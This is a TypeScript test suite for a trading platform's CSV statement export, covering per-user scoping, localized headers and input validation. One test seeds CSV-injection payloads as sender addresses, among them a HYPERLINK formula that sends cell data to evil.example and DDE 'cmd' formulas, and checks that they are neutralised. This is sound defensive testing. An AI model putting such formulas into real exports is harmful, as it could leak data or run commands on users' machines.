/**
 * Statements (docs/decisions/0055-alerts-statements.md): GET /api-v1/statements/?from=&to=&kind= answers
 * the caller's own transactions or closed trades of a period as a CSV download, its header row in
 * the user's saved language, its numbers plain decimals, and no text field a spreadsheet would run as
 * a formula (docs/security.md, "CSV injection": a deposit's free-text sender address).
 */
import { eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { transactions } from '../../src/server/db/schema.js';
import { STATEMENTS_MSG } from '../../src/shared/api/statements.js';
import type { TestApp } from '../helpers/app.js';
import type { FakeMarket } from '../helpers/fake-market.js';
import { fakeMarketApp } from '../helpers/suites.js';
import { fundWallet } from '../helpers/money.js';
import { closeTrade, leverTrader, openedTradeId, openTrade } from '../helpers/trades.js';
import { call, createUser, type TestUser } from '../helpers/users.js';
import { ADDRESSES, tronAddress } from '../helpers/addresses.js';

let t: TestApp;
let market: FakeMarket;
fakeMarketApp((app, fake) => ([t, market] = [app, fake]));

const today = () => new Date().toISOString().slice(0, 10);
const statement = (user: TestUser | undefined, query: string) =>
  t.app.inject({
    method: 'GET',
    url: `/api-v1/statements/?${query}`,
    headers: user ? { authorization: `Bearer ${user.token}` } : {},
  });

/** The CSV's rows as fields (RFC 4180 quoting), past its byte order mark. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const body = text.slice(1);
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

const LAST_YEAR_SENDER = tronAddress(2025);
const OTHERS_SENDER = tronAddress(9090);

async function deposit(user: TestUser, amount: string, address: string) {
  const answer = await call(t, 'POST', '/api-v1/recharge/', {
    token: user.token,
    body: { amount, payment_address: address },
  });
  expect(answer.status).toBe(201);
  return answer.body.transaction.transaction_id as number;
}

describe('transactions', () => {
  it("answers the caller's transactions of the period as a CSV download, never another user's", async () => {
    const user = await createUser(t);
    const other = await createUser(t);
    await fundWallet(t, user, '120.5');
    const old = await deposit(user, '60', LAST_YEAR_SENDER);
    await t.db
      .update(transactions)
      .set({ createdAt: sql`now() - interval '400 days'` })
      .where(eq(transactions.id, old));
    await deposit(other, '999', OTHERS_SENDER);

    const answer = await statement(user, `kind=transactions&from=${today()}&to=${today()}`);
    expect(answer.statusCode).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe(
      `attachment; filename="coinfront-transactions-${today()}-to-${today()}.csv"`,
    );
    const rows = parseCsv(answer.body);
    expect(rows[0]).toEqual(Object.values(STATEMENTS_MSG.columns.transactions));
    expect(rows.slice(1)).toEqual([
      [
        expect.stringMatching(/^\d+$/),
        expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
        'deposit',
        'successful',
        'USDT',
        '120.5',
        '0',
        '',
        '',
        ADDRESSES.TRC20,
        '',
      ],
    ]);
    expect(answer.body).not.toContain(OTHERS_SENDER);
    expect(answer.body).not.toContain(LAST_YEAR_SENDER);
    // The year before holds the old one.
    const lastYear = new Date(Date.now() - 400 * 86_400_000).toISOString().slice(0, 10);
    const before = parseCsv((await statement(user, `kind=transactions&from=${lastYear}&to=${lastYear}`)).body);
    expect(before.slice(1).map((r) => r[9])).toEqual([LAST_YEAR_SENDER]);
  });

  it('writes a text a spreadsheet would run as a formula as text (CSV injection through a sender address)', async () => {
    const attacker = await createUser(t);
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=A1, "quoted"\r\nnext line',
    ];
    // The deposit form takes only a real address of the network now (docs/decisions/0068-screens-finish.md),
    // so these are rows written before that check, which the statement must still write safely.
    for (const address of formulas) {
      const id = await deposit(attacker, '50', ADDRESSES.TRC20);
      await t.db.update(transactions).set({ address }).where(eq(transactions.id, id));
    }
    const answer = await statement(attacker, `kind=transactions&from=${today()}&to=${today()}`);
    const addresses = parseCsv(answer.body)
      .slice(1)
      .map((r) => r[9]);
    expect(addresses).toEqual(formulas.map((f) => `'${f}`));
    // Every row still has the header's number of fields: no quote or line break escaped its field.
    for (const row of parseCsv(answer.body)) expect(row).toHaveLength(11);
  });

  it("writes the header row in the user's saved language", async () => {
    const user = await createUser(t);
    await call(t, 'POST', '/api-v1/user/language/', { token: user.token, body: { language: 'de' } });
    const de = parseCsv((await statement(user, `kind=transactions&from=${today()}&to=${today()}`)).body);
    expect(de).toEqual([
      [
        'ID',
        'Datum (UTC)',
        'Art',
        'Status',
        'Währung',
        'Betrag',
        'Gebühr',
        'Erhaltener Betrag',
        'Netzwerk',
        'Adresse',
        'Transaktions-Hash',
      ],
    ]);
    await call(t, 'POST', '/api-v1/user/language/', { token: user.token, body: { language: 'ja' } });
    const ja = parseCsv((await statement(user, `kind=trades&from=${today()}&to=${today()}`)).body);
    expect(ja[0]![1]).toBe('ペア');
  });
});

describe('trades', () => {
  it('lists closed trades of the period with plain decimals (a loss stays a number), not open ones', async () => {
    market.set('BTC', '60000');
    const user = await leverTrader(t, '10000');
    const closed = await openedTradeId(t, user);
    market.set('BTC', '59500.25');
    expect((await closeTrade(t, user, closed, '59500.25')).status).toBe(200);
    expect((await openTrade(t, user, { starting_price: '59500.25' })).status).toBe(201);
    const other = await leverTrader(t, '10000');
    await openedTradeId(t, other, { starting_price: '59500.25' });

    const answer = await statement(user, `kind=trades&from=${today()}&to=${today()}`);
    expect(answer.statusCode).toBe(200);
    const rows = parseCsv(answer.body);
    expect(rows[0]).toEqual(Object.values(STATEMENTS_MSG.columns.trades));
    expect(rows.slice(1)).toEqual([
      [
        String(closed),
        'BTC/USDT',
        'buy',
        '0.1',
        expect.stringMatching(/^\d+$/),
        '60000',
        '59500.25',
        '-49.975',
        '0',
        'closed',
        expect.stringMatching(/T/),
        expect.stringMatching(/T/),
      ],
    ]);
    market.set('BTC', '60000');
  });
});

describe('bad requests change nothing and say why', () => {
  it.each([
    ['kind=spot&from=2026-01-01&to=2026-01-31', STATEMENTS_MSG.invalidKind],
    ['from=2026-01-01&to=2026-01-31', STATEMENTS_MSG.invalidKind],
    ['kind=trades&from=2026-02-30&to=2026-03-31', STATEMENTS_MSG.invalidFrom],
    ['kind=trades&from=01/02/2026&to=2026-03-31', STATEMENTS_MSG.invalidFrom],
    ['kind=trades&from=2026-01-01', STATEMENTS_MSG.invalidTo],
    ['kind=trades&from=2026-03-02&to=2026-03-01', STATEMENTS_MSG.fromAfterTo],
    ['kind=trades&from=2025-01-01&to=2026-01-02', STATEMENTS_MSG.periodTooLong],
  ])('%s', async (query, message) => {
    const user = await createUser(t);
    const answer = await statement(user, query);
    expect(answer.statusCode).toBe(400);
    expect(answer.json().error).toBe(message);
  });

  it('asks for a login', async () => {
    expect((await statement(undefined, `kind=trades&from=${today()}&to=${today()}`)).statusCode).toBe(401);
  });
});
